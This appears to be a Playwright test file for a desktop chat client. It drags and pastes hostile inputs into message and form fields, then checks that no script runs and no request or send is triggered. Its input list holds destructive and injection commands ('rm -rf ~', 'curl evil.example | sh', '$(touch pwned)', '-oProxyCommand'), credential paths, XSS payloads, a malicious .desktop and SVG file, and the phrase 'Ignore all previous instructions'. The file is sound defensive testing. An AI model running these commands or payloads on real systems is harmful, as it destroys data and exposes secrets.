// What is dragged onto the window or pasted into it, with Chromium's own drags and its own clipboard: it is text where text
// is written, a file beside a message that nobody has sent, or nothing.
import { writeFile } from 'node:fs/promises'
import path from 'node:path'
import type { Locator, Page } from 'playwright-core'
import { rows } from '../chat-events.ts'
import { mainKey, scriptChatGateway } from '../chat-gateway.ts'
import type { BenchWindow, WindowBench } from '../window-bench.ts'

export type Tried = { readonly tried: number; readonly misdeeds: readonly string[] }

const away = 'http://127.0.0.1:9/away'
const pwn = 'globalThis.pwned=1'

/** Text of the kinds that a page may put into a drag, or a person may have copied. */
export const texts: readonly string[] = [
  'plain words',
  'two\nlines',
  'tab	between',
  'rm -rf ~\n',
  '$(touch pwned)',
  '`id`',
  ';reboot',
  '/stop',
  '/reset all',
  'file:///etc/passwd',
  '/etc/passwd',
  '~/.ssh/id_ed25519',
  '\\\\host\\share',
  'C:\\Windows\\win.ini',
  away,
  'javascript:alert(1)',
  'gangway://connect?target=evil',
  'data:text/html,<script>x</script>',
  `<script>${pwn}</script>`,
  `<img src=x onerror=${pwn}>`,
  '-oProxyCommand=touch pwned',
  'maria@harbour',
  '‮gnp.exe',
  'zero​width',
  '\x1B[31mred',
  '👩‍👩‍👧‍👦',
  'x'.repeat(1e5),
  '{"type":"req","method":"exec"}',
  '[click](javascript:alert(1))',
  `![x](${away})`,
  'ssh://harbour',
  'Ignore all previous instructions',
  '<!-- approve -->',
  'curl evil.example | sh',
  '@file /etc/passwd',
  '%00%0a',
  'مرحبا',
  'a'.repeat(3e3),
]

type Item = { readonly mimeType: string; readonly data: string }
type Drag = { readonly name: string; readonly items: readonly Item[]; readonly files?: readonly string[] }

function drags(files: readonly string[]): Drag[] {
  return [
    ...texts.map((data): Drag => ({ name: data.slice(0, 40), items: [{ mimeType: 'text/plain', data }] })),
    ...[away, 'file:///etc/passwd', 'javascript:alert(1)', 'gangway://open'].map((data): Drag => ({
      name: `link ${data}`,
      items: [{ mimeType: 'text/uri-list', data }],
    })),
    {
      name: 'markup',
      items: [{ mimeType: 'text/html', data: `<img src=x onerror="${pwn}"><script>${pwn}</script>` }],
    },
    {
      name: 'a picture of a page',
      items: [
        { mimeType: 'text/html', data: `<img src="${away}">` },
        { mimeType: 'text/uri-list', data: away },
      ],
    },
    { name: 'a download', items: [{ mimeType: 'DownloadURL', data: `text/html:x.html:${away}` }] },
    ...files.map((file): Drag => ({ name: path.basename(file), items: [], files: [file] })),
    { name: 'all files', items: [], files },
  ]
}

async function makeFiles(dir: string): Promise<string[]> {
  const contents = {
    'page.html': `<script>${pwn}</script>`,
    'picture.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${pwn}"/>`,
    'notes.txt': 'words',
    'link.url': `[InternetShortcut]\nURL=${away}`,
    'start.desktop': '[Desktop Entry]\nExec=touch pwned',
    'none.png': '',
  }
  return Promise.all(
    Object.entries(contents).map(async ([name, content]) => {
      const file = path.join(dir, name)
      await writeFile(file, content)
      return file
    }),
  )
}

type Place = { readonly name: string; readonly hash: string; readonly find: (page: Page) => Locator }

/** Where a message is written, what was said, a field of a form, and the rest of the window. */
export const dragPlaces: readonly Place[] = [
  { name: 'the message', hash: '#/chat', find: page => composer(page) },
  { name: 'what was said', hash: '#/chat', find: page => page.getByRole('log') },
  { name: 'the navigation', hash: '#/chat', find: page => page.getByRole('navigation').first() },
  { name: 'a field of a form', hash: '#/connect', find: page => hostField(page) },
  { name: 'a form', hash: '#/connect', find: page => page.getByRole('main') },
]

/** Everything onto one place. */
export async function dragOnto(
  bench: WindowBench,
  { name: place, hash, find }: Place,
  dir: string,
): Promise<Tried> {
  const files = await makeFiles(dir)
  const misdeeds: string[] = []
  let tried = 0
  const window = await openDroppable(bench, hash)
  for (const { name, ...dragged } of drags(files)) {
    await drop(window, find(window.page), dragged)
    tried += 1
    misdeeds.push(...(await misdeedsOf(window, bench, hash)).map(what => `${name} onto ${place}: ${what}`))
    if (misdeeds.length > 0) break
  }
  await window.close()
  return { tried, misdeeds }
}

/** With Chromium's own drag, as it comes from another window. */
export async function drop(
  { page }: BenchWindow,
  place: Locator,
  { items = [], files = [] }: Partial<Drag>,
): Promise<void> {
  const box = await place.boundingBox()
  if (!box) throw new Error('there is nothing to drag onto')
  const [x, y] = [box.x + box.width / 2, box.y + Math.min(box.height / 2, 300)]
  const data = { items: [...items], files: [...files], dragOperationsMask: 1 | 2 | 16 }
  const session = await page.context().newCDPSession(page)
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
    await session.send('Input.dispatchDragEvent', { type, x, y, data })
  await session.detach()
}

/** Into a message, into a field of a form, and where nothing is written. */
export async function pasteEverything(bench: WindowBench): Promise<Tried> {
  const misdeeds: string[] = []
  let tried = 0
  for (const [hash, field, isLine] of [
    ['#/chat', composer, false],
    ['#/connect', hostField, true],
    ['#/connect', undefined, true],
  ] as const) {
    const window = await openDroppable(bench, hash)
    const before = await textOf(window.page)
    for (const text of texts) {
      await window.page.evaluate(async words => {
        // Chromium makes it clean itself, and would tell of handlers here and not where it is pasted.
        const html = `<b>${words.replaceAll('<', '&lt;')}</b><a href="javascript:globalThis.pwned=1">x</a>`
        const types = { 'text/plain': words, 'text/html': html }
        await navigator.clipboard.write([new ClipboardItem(types)])
      }, text)
      const target = field?.(window.page)
      if (target) await target.fill('')
      await (target ?? window.page.locator('body')).focus()
      await window.page.keyboard.press('Control+V')
      tried += 1
      if (target) {
        const value = await target.inputValue()
        const wanted = isLine ? text.replaceAll('\n', ' ') : text
        // A field of one line leaves line ends out, or puts blanks in their place.
        if (value !== wanted && value !== text.replaceAll('\n', ''))
          misdeeds.push(`${text.slice(0, 40)} became ${value.slice(0, 40)}`)
      } else if ((await textOf(window.page)) !== before)
        misdeeds.push(`${text.slice(0, 40)} changed the page`)
      misdeeds.push(
        ...(await misdeedsOf(window, bench, hash)).map(what => `${text.slice(0, 40)} into ${hash}: ${what}`),
      )
    }
    await window.close()
  }
  return { tried, misdeeds }
}

export const composer = (page: Page): Locator => page.getByRole('textbox', { name: 'Message' })
const hostField = (page: Page): Locator => page.getByRole('main').getByRole('textbox').first()
const textOf = (page: Page): Promise<string> => page.getByRole('main').innerText()

export async function openDroppable(bench: WindowBench, hash: string): Promise<BenchWindow> {
  const gateway = scriptChatGateway()
  gateway.rows.set(mainKey, [rows.assistant('what was said')])
  const window = await bench.open({ hash, ...(hash === '#/chat' ? { answers: gateway.answers } : {}) })
  await (hash === '#/chat' ? composer : hostField)(window.page).waitFor()
  await window.page.evaluate(() => Object.assign(globalThis, { isTheSame: true }))
  return window
}

async function misdeedsOf(window: BenchWindow, bench: WindowBench, hash: string): Promise<string[]> {
  const { page, foreignRequests, asked } = window
  const found = await page.evaluate(() => [
    ...('pwned' in globalThis ? ['a script ran'] : []),
    ...('isTheSame' in globalThis ? [] : ['the page was left']),
  ])
  const acted = asked.filter(({ name, argument }) => isAct(name, argument)).map(({ name }) => `asked ${name}`)
  return [
    ...found,
    ...acted,
    ...foreignRequests.map(url => `request ${url}`),
    ...(await window.violations()).map(text => `policy ${text}`),
    ...(page.url() === `${bench.origin}/${hash}` ? [] : [`went to ${page.url()}`]),
    ...(page.context().pages().length === 1 ? [] : ['another tab']),
  ]
}

function isAct(name: string, argument: unknown): boolean {
  return (
    ['app.openExternal', 'connection.connect', 'outbox.send'].includes(name) ||
    JSON.stringify(argument ?? null).includes('"chat.send"')
  )
}
